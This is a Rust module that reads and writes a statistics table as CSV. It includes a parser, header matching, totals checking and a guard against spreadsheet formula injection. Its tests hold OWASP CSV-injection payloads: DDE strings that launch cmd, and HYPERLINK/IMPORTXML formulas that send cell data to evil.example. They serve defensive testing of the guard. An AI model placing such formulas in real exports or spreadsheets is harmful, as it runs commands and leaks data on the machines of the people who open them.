//! The statistics table as CSV, the way Excel and WPS save it (SPEC §8.2).
//!
//! Layout written (and read back):
//!
//! ```text
//! 填报单位,黑龙江省          ← header fields, one per line (optional when reading)
//! 批次,1
//! …
//!                            ← blank line
//! 单位名称,基层党组织 · 总数(个),…   ← column headers (zh-CN, or the JSON field names)
//! 甲,1,2,3,…                 ← 栏次 row (skipped when reading)
//! 合计,…                     ← totals row (skipped when reading: recomputed)
//! 哈尔滨市,1200,…
//! ```
//!
//! Every cell written that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR
//! first) gets a leading `'`, and reading removes it, so export → import is exact (SPEC §7).
//!
//! Reading takes text already decoded (the CLI decodes UTF-8 or GBK, the browser uses
//! `TextDecoder`). Cells go through the same normalisation as typed input, so `1,200` and
//! full-width digits from a spreadsheet just work. A CSV without header fields is a bare table:
//! only the rows are checked (N004).

use serde_json::{Map, Value};

use crate::core::columns::{Kind, COLUMNS};
use crate::core::issue::{Issue, Locale};
use crate::core::json::{ParseError, ParseKind};
use crate::core::normalize;
use crate::core::stats::model::{self, StatsDoc, FORMAT};
use crate::core::columns::INPUTS;
use crate::core::stats::totals::{column_sums, compute, row_view, Computed, Ratio, Values, TOTAL_NAME};

/// Header fields: JSON name and the zh-CN label written in the CSV — the labels of the
/// vocabulary ([`crate::core::vocab`]), so the CSV says what the form says (more labels are
/// accepted when reading, see [`meta_key`]).
fn meta() -> impl Iterator<Item = (&'static str, &'static str)> {
    use crate::core::vocab::{self, list, HEADER_FIELDS, REPORT_SECTIONS};
    let zh = vocab::catalogue(Locale::ZhCn);
    let header = HEADER_FIELDS.iter().map(move |k| (*k, zh.word(list::HEADER, k)));
    header.chain(REPORT_SECTIONS.iter().map(move |k| (*k, zh.word(list::REPORT, k))))
}

/// Other spellings clerks use for the header fields (报出日期 is the paper form's word for the
/// filing date; the vocabulary's is 填报日期).
const META_ALIASES: &[(&str, &str)] = &[("报出日期", "filed_on"), ("单位", "unit"), ("统计截止时间", "as_of")];

/// Folds a header cell for comparison: no spaces, no `·`, ASCII parentheses, no quotes.
pub(crate) fn fold(s: &str) -> String {
    normalize::halfwidth(s)
        .chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '·' | '・' | '•' | '"' | '“' | '”' | '‘' | '’'))
        .collect()
}

pub(crate) fn meta_key(cell: &str) -> Option<&'static str> {
    let f = fold(cell);
    let f = f.trim_end_matches([':', '：']);
    meta()
        .find(|(k, zh)| *k == f || fold(zh) == f)
        .map(|(k, _)| k)
        .or_else(|| META_ALIASES.iter().find(|(zh, _)| fold(zh) == f).map(|(_, k)| *k))
}

/// The names a header cell may give each column, folded once per file (its JSON field, its
/// zh-CN header with and without the group, a group-less label, its English header): asking the
/// vocabulary for every column's headers again for each header cell made a header row of
/// 2 000 cells cost 2 000 × 26 × 5 lookups (most of the csv fuzz target's time). Folded once
/// per process, in fact: they depend on nothing a file says.
pub(crate) struct Headers(Vec<String>);

impl Headers {
    /// The folded names, made on the first call.
    pub(crate) fn get() -> &'static Headers {
        static HEADERS: std::sync::OnceLock<Headers> = std::sync::OnceLock::new();
        HEADERS.get_or_init(Headers::new)
    }

    fn new() -> Headers {
        let names = |c: &crate::core::columns::Column| {
            let label = if c.group(Locale::ZhCn).is_empty() { c.label(Locale::ZhCn) } else { "" };
            fold(&format!("{}\u{1}{}\u{1}{label}\u{1}{}\u{1}{}", c.field, c.header_zh(), c.header_two_level_zh(), c.header_en()))
        };
        Headers(COLUMNS.iter().map(names).collect())
    }

    /// The column a header cell names: its JSON field or one of its headers (with or without
    /// the group, spaces and `·`).
    pub(crate) fn column_of(&self, cell: &str) -> Option<&'static crate::core::columns::Column> {
        let f = fold(cell);
        // A computed column's header may carry its formula, as SPEC §3.1 writes it: `… = 2/1`.
        let f = match f.split_once('=') {
            Some((head, _)) if !head.is_empty() => head,
            _ => &f,
        };
        // An empty cell names nothing (a header row of 200 000 empty cells: the csv fuzz target).
        if f.is_empty() {
            return None;
        }
        COLUMNS.iter().zip(&self.0).find(|(_, names)| names.split('\u{1}').any(|n| n == f)).map(|(c, _)| c)
    }
}

/// The first character of a cell that a spreadsheet (Excel, WPS) would run as a formula or a
/// command (SPEC §7, OWASP "CSV injection"): such a text cell is written with a leading `'`.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether writing `s` needs the guard: it starts with a trigger, or with apostrophes before one
/// (so that a cell whose own text starts with `'=` reads back as itself, not one `'` shorter).
fn needs_guard(s: &str) -> bool {
    s.trim_start_matches('\'').starts_with(is_trigger)
}

/// `s` as written to a cell: with the formula guard when it needs one.
pub fn guard(s: &str) -> std::borrow::Cow<'_, str> {
    if needs_guard(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// The text of a guarded cell without its `'`, or `None` when the cell is not guarded.
/// `unguard(&guard(s)) == Some(s)` whenever `guard` changed `s`.
pub fn unguard(cell: &str) -> Option<&str> {
    cell.strip_prefix('\'').filter(|rest| needs_guard(rest))
}

/// A cell's text as read: a guarded cell exactly as it was written before the guard, any other
/// trimmed.
fn cell_value(cell: &str) -> &str {
    unguard(cell).unwrap_or_else(|| normalize::trim(cell))
}

/// The records of CSV text, as the `csv` crate reads them (RFC 4180, flexible): `,` between
/// cells; CRLF, LF or CR end a record; a `"` at the start of a cell opens a quoted cell, where `""`
/// is a quote and line breaks are text; after the closing quote the cell goes on unquoted; a `"`
/// inside an unquoted cell is text. Unlike the crate, a quote that never closes is an error at
/// the line and column where it opens (the crate reads the rest of the file as one cell), and so
/// is a NUL character (a binary file, or UTF-16 read as bytes). Not the crate: in wasm it costs
/// some kilobytes gzip of the form's download (its writer was dropped for the same reason), and
/// it cannot report the unterminated quote. `tests/props.rs` checks it against the crate.
pub struct Records<'a> {
    text: &'a str,
    pos: usize,
    line: usize,
    line_start: usize,
}

impl<'a> Records<'a> {
    pub fn new(text: &'a str) -> Records<'a> {
        Records { text, pos: 0, line: 1, line_start: 0 }
    }

    fn error(&self, kind: ParseKind, line: usize, at: usize, line_start: usize, message: &str) -> ParseError {
        let column = self.text.get(line_start..at).map_or(0, |s| s.chars().count()) + 1;
        ParseError::new(kind, line, column, message)
    }

    fn newline(&mut self, next: usize) {
        self.line += 1;
        self.line_start = next;
    }
}

const NUL_MESSAGE: &str = "NUL character: this is not a text CSV file (save it again as “CSV UTF-8” or “CSV”)";

impl Iterator for Records<'_> {
    /// The line where the record starts, and its cells.
    type Item = Result<(usize, Vec<String>), ParseError>;

    fn next(&mut self) -> Option<Self::Item> {
        let b = self.text.as_bytes();
        if self.pos >= b.len() {
            return None;
        }
        let line = self.line;
        let mut cells = Vec::new();
        let mut cell = Vec::new();
        loop {
            // The start of a cell.
            if b.get(self.pos) == Some(&b'"') {
                let (open_line, open_at, open_start) = (self.line, self.pos, self.line_start);
                self.pos += 1;
                loop {
                    let Some(&c) = b.get(self.pos) else {
                        self.pos = b.len();
                        let msg = "a quote (\") opens a cell here and is never closed: add the closing quote";
                        return Some(Err(self.error(ParseKind::CsvQuote, open_line, open_at, open_start, msg)));
                    };
                    self.pos += 1;
                    match c {
                        b'"' if b.get(self.pos) == Some(&b'"') => self.pos += 1,
                        b'"' => break,
                        b'\0' => {
                            let at = self.pos - 1;
                            self.pos = b.len();
                            return Some(Err(self.error(ParseKind::CsvNul, self.line, at, self.line_start, NUL_MESSAGE)));
                        }
                        b'\n' => self.newline(self.pos),
                        b'\r' if b.get(self.pos) != Some(&b'\n') => self.newline(self.pos),
                        _ => {}
                    }
                    cell.push(c);
                }
            }
            // Unquoted (or the rest after a closing quote), up to the next `,` or line end.
            loop {
                let c = b.get(self.pos).copied();
                self.pos += 1;
                match c {
                    Some(b',') => break,
                    None | Some(b'\n' | b'\r') => {
                        if c == Some(b'\r') && b.get(self.pos) == Some(&b'\n') {
                            self.pos += 1;
                        }
                        if c.is_some() {
                            self.newline(self.pos);
                        }
                        cells.push(String::from_utf8(std::mem::take(&mut cell)).unwrap_or_default());
                        return Some(Ok((line, cells)));
                    }
                    Some(b'\0') => {
                        let at = self.pos - 1;
                        self.pos = b.len();
                        return Some(Err(self.error(ParseKind::CsvNul, self.line, at, self.line_start, NUL_MESSAGE)));
                    }
                    Some(c) => cell.push(c),
                }
            }
            cells.push(String::from_utf8(std::mem::take(&mut cell)).unwrap_or_default());
        }
    }
}

/// N006: the file was not UTF-8 and was read as GB18030/GBK (SPEC §7). The decoding is the
/// caller's (the CLI, or the page's `TextDecoder`), so the caller adds it.
pub fn gbk_notice() -> Issue {
    Issue::new("N006", "").param("encoding", "GB18030")
}

/// The reason given for a file that is neither JSON nor a table.
pub const NOT_A_TABLE: &str = "the file is neither JSON nor a table (CSV)";

/// Text, not binary data: hardly a NUL byte and few replacement characters in its first 4 KiB (a
/// PNG, a Word file or an archive decoded as text has both). One or two stray NULs in a text file
/// are a parse error at their place instead (see [`prescan`]).
fn looks_like_text(text: &str) -> bool {
    let head = &text.as_bytes()[..text.len().min(4096)];
    let replaced = head.windows(3).filter(|w| *w == "\u{fffd}".as_bytes()).count();
    let nuls = head.iter().filter(|&&b| b == 0).count();
    nuls < 3 && replaced * 60 <= head.len()
}

/// Reads a statistics table from CSV text.
pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
    // A text with a byte order mark says it is UTF-8 text (every CSV the product writes has one,
    // so does Excel's "CSV UTF-8"): its U+FFFD are characters its writer had, not a sign of a
    // binary file. A GBK file with undecodable bytes was read, but its export — where its 38
    // U+FFFD came closer together — was refused as binary (the csv fuzz target's finding).
    let bom = text.starts_with('\u{feff}');
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    if !bom && !looks_like_text(text) {
        // A picture, a Word file or an archive opened by mistake: say so in words
        // ([`crate::core::messages::parse_error`] renders it in the clerk's locale).
        return Err(ParseError::new(ParseKind::NotATable, 0, 0, NOT_A_TABLE));
    }
    if text.len() > crate::core::json::MAX_BYTES {
        return Err(ParseError::new(ParseKind::TooLarge, 0, 0, format!("file too large: {} bytes", text.len())));
    }
    let mut doc = Map::new();
    doc.insert("format".into(), FORMAT.into());
    let mut report = Map::new();
    let mut issues = Vec::new();
    let mut header: Option<Vec<Option<&'static crate::core::columns::Column>>> = None;
    let mut rows = Vec::new();
    let headers = Headers::get();
    // The computed cells given in the file, checked against the computed values once every row
    // is read: (row index, or None for the 合计 row; field; text).
    let mut supplied: Vec<(Option<usize>, &'static str, String)> = Vec::new();
    let mut skipped_computed = false;

    for record in Records::new(text) {
        let (line, raw) = record?;
        let cells: Vec<&str> = raw.iter().map(|c| cell_value(c)).collect();
        if cells.iter().all(|c| c.is_empty()) {
            continue;
        }
        let first = cells[0];
        let Some(cols) = &header else {
            if headers.column_of(first).is_some_and(|c| c.kind == Kind::Name) {
                let mut cols: Vec<Option<&'static crate::core::columns::Column>> = Vec::with_capacity(cells.len());
                for (i, h) in cells.iter().enumerate() {
                    let mut c = headers.column_of(h);
                    if c.is_none() && !h.is_empty() {
                        // The suggestion from the first 64 characters: the edit distance is
                        // quadratic, and a header cell may be megabytes long.
                        let head: String = fold(h).chars().take(64).collect();
                        issues.push(
                            Issue::new("T008", format!("/rows/0/{h}"))
                                .param("field", *h)
                                .param("suggestion", model::nearest(&head, COLUMNS.iter().map(|c| c.field)))
                                .param("column", i + 1),
                        );
                    }
                    if let Some(col) = c.filter(|col| cols.iter().flatten().any(|k| k.field == col.field)) {
                        // Two columns for one field: the first is read (SPEC §5.1, T015).
                        issues.push(
                            Issue::new("T015", format!("/rows/0/{}", col.field)).param("key", col.field).param("column", i + 1),
                        );
                        c = None;
                    }
                    if c.is_some_and(|c| !c.is_input() && c.kind != Kind::Name) {
                        skipped_computed = true;
                    }
                    cols.push(c);
                }
                header = Some(cols);
            } else if let Some(key) = meta_key(first) {
                let value = cells.get(1).copied().unwrap_or("");
                let (map, path) = if ["overview", "practices", "examples"].contains(&key) {
                    (&mut report, format!("/report/{key}"))
                } else {
                    (&mut doc, format!("/{key}"))
                };
                if map.contains_key(key) {
                    // The first is kept, the second reported (SPEC §5.1): never a silent
                    // last-one-wins.
                    issues.push(Issue::new("T015", path).param("key", key).param("line", line));
                } else {
                    map.insert(key.into(), value.into());
                }
            } else {
                return Err(ParseError::new(
                    ParseKind::CsvStrayRow,
                    line,
                    1,
                    format!("「{first}」is neither a header field nor the column header row (单位名称 / name)"),
                ));
            }
            continue;
        };
        // The 栏次 row (甲, 1, 2 …) is the form's, not data; the 合计 row is recomputed, and
        // what it claims is compared with the computed totals below.
        if first == "甲" {
            continue;
        }
        let total = first == TOTAL_NAME;
        let index = (!total).then_some(rows.len());
        for (i, cell) in cells.iter().enumerate() {
            if let Some(Some(c)) = cols.get(i) {
                if !cell.is_empty() && (c.kind != Kind::Name && (total || !c.is_input())) {
                    supplied.push((index, c.field, (*cell).to_string()));
                }
            }
        }
        if total {
            skipped_computed = true;
            continue;
        }
        rows.push(data_row(&cells, cols, line, rows.len(), &mut issues));
    }
    if header.is_none() {
        return Err(ParseError::new(ParseKind::CsvNoHeader, 1, 1, "no column header row (单位名称 / name) found"));
    }
    Ok(finish(doc, report, rows, skipped_computed, &supplied, issues))
}

/// One data row under the header `cols`: the name and the input cells as typed (computed columns
/// are recomputed, not read); cells beyond the header are T014 (`line`: the CSV line, or the
/// sheet's row number).
pub(crate) fn data_row<S: AsRef<str>>(
    cells: &[S],
    cols: &[Option<&'static crate::core::columns::Column>],
    line: usize,
    index: usize,
    issues: &mut Vec<Issue>,
) -> Value {
    let extra = cells.iter().skip(cols.len()).filter(|c| !normalize::trim(c.as_ref()).is_empty()).count();
    if extra > 0 {
        issues.push(
            Issue::new("T014", format!("/rows/{index}"))
                .param("line", line)
                .param("extra", extra)
                .param("columns", cols.len()),
        );
    }
    let mut row = Map::new();
    for (cell, c) in cells.iter().zip(cols) {
        if let Some(c) = c.filter(|c| c.kind == Kind::Name || c.is_input()) {
            // Cells come as read (a CSV's already unguarded and trimmed by `cell_value`; a
            // sheet's trimmed by the caller): a guarded `\t=1+1` keeps its tab.
            row.insert(c.field.into(), Value::from(cell.as_ref()));
        }
    }
    Value::Object(row)
}

/// The table read from a file's header fields, report sections and rows (a CSV or a worksheet:
/// [`super::sheet`]), after the issues found while reading it: N004 when the file had no header
/// fields (a bare table), N005 when a 合计 row or computed columns were skipped.
pub(crate) fn finish(
    mut doc: Map<String, Value>,
    report: Map<String, Value>,
    rows: Vec<Value>,
    skipped_computed: bool,
    supplied: &[(Option<usize>, &'static str, String)],
    mut issues: Vec<Issue>,
) -> (StatsDoc, Vec<Issue>) {
    let has_meta = doc.len() > 1 || !report.is_empty();
    if !report.is_empty() {
        doc.insert("report".into(), Value::Object(report));
    }
    doc.insert("rows".into(), Value::Array(rows));
    let (stats, mut read_issues) = model::read_with(&Value::Object(doc), has_meta);
    if !has_meta {
        read_issues.push(Issue::new("N004", ""));
    }
    if skipped_computed {
        read_issues.push(Issue::new("N005", "/rows"));
    }
    read_issues.extend(claims(&stats, supplied));
    issues.extend(read_issues);
    (stats, issues)
}

/// R041 for every computed cell (a coverage, `methods_total`, any cell of the 合计 row) whose
/// text differs from the value computed from the rows read. A value that cannot be computed (an
/// operand missing or invalid: its own error says so) is not compared.
fn claims(stats: &StatsDoc, supplied: &[(Option<usize>, &'static str, String)]) -> Vec<Issue> {
    let sums: Values = std::array::from_fn(|i| {
        stats.rows.iter().try_fold(0u64, |acc, r| acc.checked_add(r.cells[i].value()?))
    });
    let mut issues = Vec::new();
    for (row, field, text) in supplied {
        let values = match row {
            None => sums,
            Some(i) => match stats.rows.get(*i) {
                Some(r) => r.values(),
                None => continue,
            },
        };
        let Some(c) = COLUMNS.iter().find(|c| c.field == *field) else { continue };
        // An input column (in the 合计 row) is its column sum.
        let computed = compute(c.kind, &values).or_else(|| INPUTS.iter().position(|f| f == field).map(|i| Computed::Sum(values[i])));
        let (same, shown) = match computed {
            Some(Computed::Sum(Some(n))) => (normalize::parse_count(text) == Ok(n), Value::from(n)),
            Some(Computed::Ratio(Some(r))) => (same_ratio(text, r), Value::from(r.display())),
            _ => continue,
        };
        if !same {
            let path = match row {
                None => format!("/total/{field}"),
                Some(i) => format!("/rows/{i}/{field}"),
            };
            let unit = match row {
                None => "合计",
                Some(i) => stats.rows.get(*i).and_then(|r| r.name.as_deref()).unwrap_or(""),
            };
            issues.push(
                Issue::new("R041", path)
                    .param("row", unit)
                    .param("field", *field)
                    .param("supplied", text.as_str())
                    .param("computed", shown),
            );
        }
    }
    issues
}

/// Whether a coverage as a spreadsheet shows it (`91.6%`, `91.67 %`, `91.6`, `—` for 0/0) is the
/// ratio `r` at the precision written: |p − 100·num/den| < 10^−decimals, so both rounding down
/// (as the form shows it) and rounding to nearest (as Excel does) are the same value.
fn same_ratio(text: &str, r: Ratio) -> bool {
    let t = normalize::halfwidth(text);
    let t = t.trim().trim_end_matches('%').trim_end();
    if r.den == 0 {
        return matches!(t, "—" | "-" | "–" | "/" | "") || t.starts_with("#DIV/0");
    }
    // p / 10^decimals, at most 999 and 4 decimals (then every product below fits in 64 bits
    // within R004's bounds; a larger one is not the same).
    let (int, frac) = t.split_once('.').unwrap_or((t, ""));
    if int.is_empty() || int.len() > 3 || frac.len() > 4 {
        return false;
    }
    let (mut p, mut scale) = (0u64, 1u64);
    for (i, b) in int.bytes().chain(frac.bytes()).enumerate() {
        if !b.is_ascii_digit() {
            return false;
        }
        p = p * 10 + u64::from(b - b'0');
        if i >= int.len() {
            scale *= 10;
        }
    }
    // |p/scale − 100·num/den| < 1/scale  ⇔  |p·den − 100·num·scale| < den
    match (p.checked_mul(r.den), r.num.checked_mul(100 * scale)) {
        (Some(a), Some(b)) => a.abs_diff(b) < r.den,
        _ => false,
    }
}

/// The text of a JSON value in a CSV cell (strings as they are, numbers as digits).
fn cell_text(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        // A guarded cell is read back exactly; any other is trimmed when read, so it is
        // written trimmed (an invalid value is kept raw, spaces and all): else export → import
        // → export is not exact (the stats_json fuzz target found it).
        Value::String(s) if needs_guard(s) => s.clone(),
        Value::String(s) => normalize::trim(s).to_string(),
        other => other.to_string(),
    }
}

/// Writes the table as CSV: UTF-8 with a BOM (so Excel and WPS detect the encoding), CRLF line
/// ends, zh-CN headers, the 栏次 row, the 合计 row first, computed columns included.
pub fn write(doc: &StatsDoc) -> String {
    let mut w = Writer(String::from("\u{feff}"));
    let json = doc.to_value();
    let report = json.get("report");
    for (key, zh) in meta() {
        let v = json.get(key).or_else(|| report.and_then(|r| r.get(key)));
        if let Some(v) = v {
            let _ = w.write_record([zh, cell_text(v).as_str()]);
        }
    }
    let _ = w.write_record([""]);
    let _ = w.write_record(COLUMNS.iter().map(|c| c.header_zh()));
    let _ = w.write_record(COLUMNS.iter().map(|c| {
        if c.formula.is_empty() { c.no.to_string() } else { format!("{}={}", c.no, c.formula) }
    }));
    let mut views = Vec::with_capacity(doc.rows.len() + 1);
    if let Ok(sums) = column_sums(&doc.rows) {
        views.push(row_view(TOTAL_NAME, &sums.map(Some)));
    }
    for r in &doc.rows {
        let mut v = row_view(r.name.as_deref().unwrap_or(""), &r.values());
        // Keep invalid input as it was typed, not as an empty cell.
        if let (Value::Object(m), Value::Object(raw)) = (&mut v, model::row_to_value(r)) {
            for (k, val) in raw {
                m.insert(k, val);
            }
        }
        views.push(v);
    }
    for v in &views {
        let _ = w.write_record(COLUMNS.iter().map(|c| v.get(c.field).map_or_else(String::new, cell_text)));
    }
    w.0
}

/// The CSV writing [`write`] needs: the formula guard on every cell ([`guard`]), RFC 4180
/// quoting (a field with a comma, a quote or a line break is quoted, quotes doubled; a record of
/// one empty field is `""`, as the `csv` crate writes it), CRLF line ends. Not `csv::Writer`: in wasm it brings float parsing along (for a
/// quoting style never used here) and costs some 18 KiB gzip of the browser's download.
struct Writer(String);

impl Writer {
    fn write_record<I: IntoIterator<Item = S>, S: AsRef<str>>(&mut self, record: I) -> Result<(), std::convert::Infallible> {
        let start = self.0.len();
        let mut fields = 0;
        for field in record {
            let f = guard(field.as_ref());
            if fields > 0 {
                self.0.push(',');
            }
            fields += 1;
            if f.contains([',', '"', '\r', '\n']) {
                self.0.push('"');
                self.0.push_str(&f.replace('"', "\"\""));
                self.0.push('"');
            } else {
                self.0.push_str(&f);
            }
        }
        if fields == 1 && self.0.len() == start {
            self.0.push_str("\"\"");
        }
        // A NUL (a JSON text may have one, `\u0000`) cannot be in a CSV: the reader refuses it as
        // a binary file's. It is written as U+FFFD, visible where it was, so the export reads
        // back (the stats_json fuzz target: a phone with NULs made the product's own CSV unreadable).
        if self.0[start..].contains('\0') {
            let record = self.0.split_off(start).replace('\0', "\u{fffd}");
            self.0.push_str(&record);
        }
        self.0.push_str("\r\n");
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bare_table_with_json_headers() {
        let (doc, issues) = read("name,orgs_total,orgs_reviewed\n甲市,\"1,200\",１１００\n").unwrap();
        assert_eq!(doc.rows.len(), 1);
        assert_eq!(doc.rows[0].cells[0].value(), Some(1200));
        assert_eq!(doc.rows[0].cells[1].value(), Some(1100));
        assert!(!doc.has_header);
        assert!(issues.iter().any(|i| i.code == "N004"));
        assert!(issues.iter().all(|i| i.code != "T001"));
    }

    #[test]
    fn cells_beyond_the_header_are_reported_not_dropped() {
        let (_, issues) = read("name,orgs_total\n甲市,12,99\n乙市,3\n").unwrap();
        let t014: Vec<_> = issues.iter().filter(|i| i.code == "T014").collect();
        assert_eq!(t014.len(), 1);
        assert_eq!(t014[0].path, "/rows/0");
        assert_eq!(t014[0].params["line"], 2);
    }

    #[test]
    fn headers_as_the_spec_writes_them_with_formulas() {
        let (_, issues) = read("单位名称,基层党组织 · 总数(个),基层党组织 · 覆盖率(%) = 2/1,点评方式 · 合计 = 17+18+19+20\n甲市,12,50.0%,3\n").unwrap();
        assert!(issues.iter().all(|i| i.code != "T008"), "{issues:?}");
    }

    #[test]
    fn no_header_row_names_the_line() {
        let e = read("填报单位,某市\n哈尔滨市,1,2\n").unwrap_err();
        assert_eq!(e.line, 2);
    }

    /// OWASP "CSV Injection" payloads, and the edge cases of the guard itself.
    const PAYLOADS: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "'=1+1",
        "''@x",
        "'plain",
        "-",
        "@",
    ];

    fn doc_with(text: &str) -> StatsDoc {
        let v = serde_json::json!({
            "format": FORMAT, "unit": text, "batch": 1, "as_of": "2011-01-15", "filed_on": "2011-01-16",
            "principal": text, "preparer": "王五", "phone": "0451-82345678", "notes": text,
            "report": { "overview": text, "practices": "做法", "examples": "事例" },
            "rows": [ { "name": text, "orgs_total": text, "orgs_reviewed": 1 }, { "name": "乙市", "orgs_total": 3 } ],
        });
        model::read(&v).0
    }

    #[test]
    fn owasp_payloads_are_written_guarded_and_read_back_exactly() {
        for p in PAYLOADS {
            let doc = doc_with(p);
            let text = write(&doc);
            // No cell as a spreadsheet reads it starts with a formula character.
            let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            for rec in r.records() {
                for cell in rec.unwrap().iter() {
                    assert!(!cell.starts_with(is_trigger), "{p:?} written unguarded as {cell:?}");
                }
            }
            let (back, _) = read(&text).unwrap();
            assert_eq!(back.to_value(), doc.to_value(), "round trip of {p:?}");
        }
    }

    #[test]
    fn guard_and_unguard_are_inverse() {
        for p in PAYLOADS.iter().copied().chain(["", "'", "''", "a=b", "哈尔滨市", "1,200"]) {
            let g = guard(p);
            assert_eq!(unguard(&g).unwrap_or(&g), p);
            assert!(!g.starts_with(is_trigger));
        }
        assert_eq!(guard("=1+1"), "'=1+1");
        assert_eq!(guard("'=1+1"), "''=1+1");
        assert_eq!(guard("'abc"), "'abc");
    }

    #[test]
    fn unterminated_quote_names_the_line_where_it_opens() {
        let e = read("填报单位,某市\n批次,1\n\nname,orgs_total\n甲市,\"12\n乙市,3\n").unwrap_err();
        assert_eq!((e.line, e.column), (5, 4), "{e}");
        assert!(e.message.contains("quote"), "{e}");
        // Quotes that close, doubled quotes and quotes inside an unquoted cell are fine.
        assert!(read("name,orgs_total\n\"甲\"\"市\",\"1,200\"\n乙\"市,3\n").is_ok());
        // CRLF counts one line.
        let e = read("name,orgs_total\r\n甲市,1\r\n\"乙市,3\r\n").unwrap_err();
        assert_eq!((e.line, e.column), (3, 1));
    }

    #[test]
    fn a_nul_in_a_text_is_written_as_u_fffd_and_the_export_reads_back() {
        let text = write(&doc_with("某\u{0}市"));
        assert!(!text.contains('\0') && text.contains("某\u{fffd}市"), "{text}");
        let (back, _) = read(&text).expect("the export reads back");
        assert_eq!(write(&back), text);
    }

    #[test]
    fn nul_is_an_error_not_accepted() {
        let e = read("name,orgs_total\n甲市,1\0\n").unwrap_err();
        assert_eq!((e.line, e.column), (2, 5));
        assert!(e.message.contains("NUL"));
    }

    #[test]
    fn a_header_field_given_twice_keeps_the_first_and_says_so() {
        let (doc, issues) = read("填报单位,某市\n批次,1\n批次,2\n总体情况,甲\n总体情况,乙\n\nname,orgs_total,orgs_total\n甲市,1,2\n").unwrap();
        assert_eq!(doc.batch, Some(1));
        assert_eq!(doc.rows[0].cells[0].value(), Some(1));
        let t015: Vec<_> = issues.iter().filter(|i| i.code == "T015").map(|i| (i.path.as_str(), i.params["key"].as_str().unwrap())).collect();
        assert_eq!(t015, [("/batch", "batch"), ("/report/overview", "overview"), ("/rows/0/orgs_total", "orgs_total")]);
    }

    #[test]
    fn a_totals_row_that_the_rows_do_not_bear_out_is_r041() {
        let head = "name,orgs_total,orgs_reviewed,orgs_coverage,collective,individual,onsite,random,methods_total\n";
        // Equal (rounded down or to nearest): no R041, N005 only.
        let (_, issues) = read(&format!("{head}合计,12,11,91.6%,1,1,1,1,4\n甲市,12,11,91.67%,1,1,1,1,4\n")).unwrap();
        assert!(issues.iter().all(|i| i.code != "R041"), "{issues:?}");
        assert!(issues.iter().any(|i| i.code == "N005"));
        // A claimed coverage and a total the rows do not give.
        let (_, issues) = read(&format!("{head}合计,13,11,100%,1,1,1,1,4\n甲市,12,11,91.6%,1,1,1,1,5\n")).unwrap();
        let r041: Vec<_> = issues.iter().filter(|i| i.code == "R041").collect();
        assert_eq!(r041.len(), 3, "{r041:?}");
        assert_eq!(r041[0].path, "/total/orgs_total");
        assert_eq!(r041[0].params["supplied"], "13");
        assert_eq!(r041[0].params["computed"], 12);
        assert_eq!(r041[1].path, "/total/orgs_coverage");
        assert_eq!(r041[1].params["computed"], "91.6%");
        assert_eq!(r041[2].path, "/rows/0/methods_total");
        assert_eq!(r041[2].params["computed"], 4);
        assert_eq!(r041[2].severity, crate::core::issue::Severity::Warning);
        // 0/0 written as — or -, and a total that cannot be computed (an invalid cell) is not compared.
        let (_, issues) = read(&format!("{head}合计,x,0,—\n甲市,0,0,-\n乙市,abc,0\n")).unwrap();
        assert!(issues.iter().all(|i| i.code != "R041"), "{issues:?}");
    }
}
